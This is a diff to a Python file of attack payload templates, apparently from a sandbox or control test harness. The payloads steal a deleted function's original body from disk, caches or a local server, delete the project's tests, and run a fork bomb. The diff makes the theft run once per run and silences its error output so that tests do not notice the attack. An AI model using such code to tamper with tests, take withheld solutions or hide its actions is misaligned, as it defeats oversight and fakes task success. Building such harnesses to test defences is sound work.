@@ -5,6 +5,11 @@ here runs only inside the sandbox, except where a control runs it on the host on
 
 COMMON = '''import ast as _ast, os as _os, sys as _sys
 
+# A test that starts Python again (a command line run in a subprocess) imports this module again:
+# search the disk once per run, not once per process.
+_FIRST = not _os.environ.get("FD_ATTACK_RAN")
+_os.environ["FD_ATTACK_RAN"] = "1"
+
 
 def _is_real(text):
     """Is `text` this module with __NAME__ given a real body (not the deleted one)? The module's
@@ -64,7 +69,7 @@ def _steal():
 '''
 STEAL = STEAL_FIND + '''
 
-_stolen = _steal()
+_stolen = _steal() if _FIRST else None
 if _stolen:
     _install(_stolen)
 '''
@@ -100,7 +105,8 @@ def _from_caches():
             continue
 
 
-_from_caches()
+if _FIRST:
+    _from_caches()
 '''
 DELETE_TESTS = '''
 for _p in list(_walk([_os.getcwd()])):
@@ -158,8 +164,8 @@ for _host in ["127.0.0.1", "localhost", _socket.gethostname()]:
     try:
         _install(_url.urlopen("http://%s:__PORT__/original" % _host, timeout=3).read().decode())
         break
-    except Exception as e:
-        print("network blocked:", _host, e)
+    except Exception:
+        pass  # silent: a test checking what a subprocess prints must not see the attack
 '''
 FORK_BOMB = '''
 while True:
